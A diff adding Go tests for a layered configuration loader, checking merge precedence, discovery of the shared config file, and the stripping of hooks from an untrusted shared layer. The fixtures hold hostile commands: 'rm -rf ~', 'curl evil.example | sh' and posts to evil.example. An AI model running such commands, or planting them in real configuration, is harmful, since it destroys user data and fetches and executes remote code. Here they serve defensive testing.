@@ -0,0 +1,196 @@
+package config
+
+import (
+	"maps"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestMerge(t *testing.T) {
+	layers := []Layer{
+		{Name: LayerShared, File: File{
+			Favorites: map[string]Favorite{"office": {Stop: 200552}, "home": {Stop: 100001}},
+			Timezone:  "Europe/Brussels",
+			Hooks:     []Hook{{On: "delay > 300", Exec: "shared.sh"}},
+		}},
+		{Name: LayerUser, File: File{
+			Favorites:     map[string]Favorite{"home": {Stop: 300001}},
+			WatchInterval: 30,
+			Hooks:         []Hook{{On: "delay > 600", Exec: "user.sh"}},
+		}},
+		{Name: LayerProfile + " weekend", File: File{
+			WatchInterval: 60,
+		}},
+	}
+
+	cfg, origins := Merge(layers)
+
+	if cfg.Favorites["home"].Stop != 300001 {
+		t.Errorf("favorites.home = %d, want user value 300001", cfg.Favorites["home"].Stop)
+	}
+
+	if cfg.Favorites["office"].Stop != 200552 {
+		t.Errorf("favorites.office = %d, want shared value 200552", cfg.Favorites["office"].Stop)
+	}
+
+	if cfg.WatchInterval != 60 {
+		t.Errorf("watch_interval = %d, want profile value 60", cfg.WatchInterval)
+	}
+
+	if len(cfg.Hooks) != 2 || cfg.Hooks[0].Exec != "shared.sh" || cfg.Hooks[1].Exec != "user.sh" {
+		t.Errorf("hooks = %+v, want the shared hook then the user hook", cfg.Hooks)
+	}
+
+	wantOrigins := map[string]string{
+		"favorites.home":   LayerUser,
+		"favorites.office": LayerShared,
+		"timezone":         LayerShared,
+		"watch_interval":   LayerProfile + " weekend",
+	}
+
+	for key, want := range wantOrigins {
+		if got := origins[key].Name; got != want {
+			t.Errorf("origin of %s = %q, want %q", key, got, want)
+		}
+	}
+
+	if _, ok := origins["default_stop"]; ok {
+		t.Error("unset keys should have no origin")
+	}
+}
+
+func TestSharedConfigPath(t *testing.T) {
+	root := t.TempDir()
+	nested := filepath.Join(root, "a", "b")
+
+	if err := os.MkdirAll(nested, 0o700); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Chdir(nested)
+
+	if path, _ := SharedConfigPath(); path != "" && filepath.Dir(path) == root {
+		t.Fatalf("found %s before it was created", path)
+	}
+
+	shared := filepath.Join(root, SharedConfigName)
+	if err := os.WriteFile(shared, []byte("timezone: Europe/Brussels\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	path, err := SharedConfigPath()
+	if err != nil {
+		t.Fatalf("SharedConfigPath() error: %v", err)
+	}
+
+	resolvedWant, _ := filepath.EvalSymlinks(shared)
+	resolvedGot, _ := filepath.EvalSymlinks(path)
+
+	if resolvedGot != resolvedWant {
+		t.Errorf("SharedConfigPath() = %q, want %q", path, shared)
+	}
+}
+
+func TestReadLayersRestrictsShared(t *testing.T) {
+	root := t.TempDir()
+	t.Chdir(root)
+
+	SetConfigPath(filepath.Join(root, "user.yaml"))
+	t.Cleanup(func() { SetConfigPath("") })
+
+	shared := `favorites:
+  office:
+    stop: 200552
+keyring_backend: file
+notify_hook: curl evil.example
+hooks:
+  - on: delay > 0
+    exec: rm -rf ~
+defaults:
+  output: json
+  departures:
+    count: 5
+  leave:
+    walk: 6m
+    wait: true
+    hook: curl evil.example | sh
+  serve:
+    addr: 0.0.0.0:8080
+  watch-rules.interval: 10s
+profiles:
+  work:
+    hooks:
+      - on: cancelled
+        post: https://evil.example
+`
+	if err := os.WriteFile(filepath.Join(root, SharedConfigName), []byte(shared), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	layers, err := ReadLayers()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	f := layers[0].File
+
+	if f.Favorites["office"].Stop != 200552 {
+		t.Errorf("shared favorites dropped: %v", f.Favorites)
+	}
+
+	if f.KeyringBackend != "" || f.NotifyHook != "" || len(f.Hooks) > 0 || len(f.Profiles["work"].Hooks) > 0 {
+		t.Errorf("shared layer kept restricted keys: %+v", f)
+	}
+
+	want := map[string]string{"output": "json", "departures.count": "5", "leave.walk": "6m"}
+	if got := f.DefaultValues(); !maps.Equal(got, want) {
+		t.Errorf("shared defaults = %v, want %v", got, want)
+	}
+}
+
+func TestReadTrustedConfig(t *testing.T) {
+	root := t.TempDir()
+	t.Chdir(root)
+
+	SetConfigPath(filepath.Join(root, "user.yaml"))
+	SetProfile("work")
+	t.Cleanup(func() {
+		SetConfigPath("")
+		SetProfile("")
+	})
+
+	shared := `favorites:
+  office:
+    stop: 200552
+profiles:
+  work:
+    notify_hook: curl evil.example
+`
+	user := `notify_hook: notify-send
+profiles:
+  work:
+    favorites:
+      desk:
+        stop: 200144
+`
+
+	for name, content := range map[string]string{SharedConfigName: shared, "user.yaml": user} {
+		if err := os.WriteFile(filepath.Join(root, name), []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	f, err := ReadTrustedConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if f.NotifyHook != "notify-send" {
+		t.Errorf("NotifyHook = %q, want the user config's", f.NotifyHook)
+	}
+
+	if _, ok := f.Favorites["office"]; ok || f.Favorites["desk"].Stop != 200144 {
+		t.Errorf("favorites = %v, want only the user profile's", f.Favorites)
+	}
+}